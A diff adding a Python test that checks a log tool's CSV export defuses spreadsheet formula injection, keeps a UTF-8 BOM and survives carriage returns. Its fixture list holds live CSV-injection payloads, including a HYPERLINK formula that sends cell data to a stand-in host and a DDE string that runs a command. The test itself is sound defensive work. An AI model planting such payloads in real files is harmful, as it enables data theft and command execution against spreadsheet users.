@@ -568,3 +568,21 @@ def test_one_bot_gets_no_bot_control(df, incidents):
     app = explore(one, incidents=incidents.iloc[:0], debounce="0s")
     assert app.bot not in app.children[0].children[2].children[0].children
     assert "per bot" not in app.status.value
+def test_the_export_opens_safely_in_a_spreadsheet(tmp_path):
+    import csv
+
+    from tests.conftest import SPOT, call, jsonl
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
+               "\tindented", "\rstarts with a CR", "two\rrows", "签名验证失败"]
+    log = jsonl(tmp_path / "calls.jsonl", *(call(SPOT, 400, {"code": 400, "msg": m}, ts=f"2026-11-20T21:05:{i:02d}Z")
+                                            for i, m in enumerate(hostile)))
+    view = View(toolkit.load_logs(log))
+    path = view.export(tmp_path)
+    data = path.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the file as UTF-8, Chinese and all
+    with open(path, newline="", encoding="utf-8-sig") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == len(hostile)  # a CR inside a message splits no row
+    assert [r["message"] for r in rows] == ["'" + m if m[0] in "=+-@\t\r" else m for m in hostile]
+    assert all(r["latency_ms"] == "" or not r["latency_ms"].startswith("'") for r in rows)
